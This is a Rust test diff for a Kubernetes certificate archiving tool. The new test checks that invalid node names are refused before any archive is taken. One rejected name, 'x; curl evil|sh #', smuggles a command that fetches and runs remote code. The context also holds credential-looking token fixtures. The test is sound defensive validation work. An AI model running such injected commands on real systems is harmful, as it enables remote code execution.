@@ -9,7 +9,7 @@ use std::path::Path;
 use kubecerts_core::archive::Redaction;
 use kubecerts_core::observation::Observations;
 use kubecerts_host::archive;
-use kubecerts_host::{Node, NodeOptions};
+use kubecerts_host::{Node, NodeError, NodeOptions};
 use kubecerts_testkit::needles::{KINDS, Needles, shifts, wrapped};
 use kubecerts_testkit::{FIXTURES, Fixture, MemoryTree, TreeBuilder, at, path};
 use tempfile::TempDir;
@@ -151,3 +151,36 @@ fn holds(bytes: &[u8], text: &str) -> bool {
 
 /// One for joining, and one that a unit has.
 const TOKENS: [&str; 2] = ["abcdef.0123456789abcdef", "hvs.CAESIJlU9JMYEhOPYv4igdhm9PnZDrabYTobQ4Ymnlq1qY-d"];
+
+#[test]
+fn a_name_that_nobody_could_read_again_is_refused_before_anything_is_looked_at() {
+    let scratch = TempDir::new().unwrap();
+    for (file, content, _) in Fixture::named("kubeadm-v136-ecdsa-p256").tree().files() {
+        let host = below(scratch.path(), file.as_str());
+        fs::create_dir_all(host.parent().unwrap()).unwrap();
+        fs::write(host, content).unwrap();
+    }
+    let taken_as = |name: &str| {
+        let mut options = NodeOptions::default();
+        options.root = Some(scratch.path().to_owned());
+        options.arguments.node_name = Some(name.to_owned());
+        let node = Node::open(options).unwrap();
+        let mut is_observed = false;
+        let taken = archive::take(&node, Redaction::Redact, at("2026-06-01T00:00:00Z"), |_| {
+            is_observed = true;
+            Observations::none()
+        });
+        assert_eq!(is_observed, taken.is_ok(), "{name:?}");
+        taken
+    };
+    for name in ["cp 1", "x; curl evil|sh #", "a\nhint: do", "kö", &"a".repeat(254)] {
+        let refused = taken_as(name).unwrap_err();
+        assert!(matches!(&refused, NodeError::Name { name: refused } if refused == name), "{refused}");
+        assert!(!refused.to_string().contains('\n'), "{refused}");
+    }
+    for name in ["cp-1", "Master_2.example.com"] {
+        let file = scratch.path().join(format!("{name}.tar"));
+        archive::write_new(&taken_as(name).unwrap(), &file).unwrap();
+        assert_eq!(archive::read(&file).unwrap().name, name);
+    }
+}
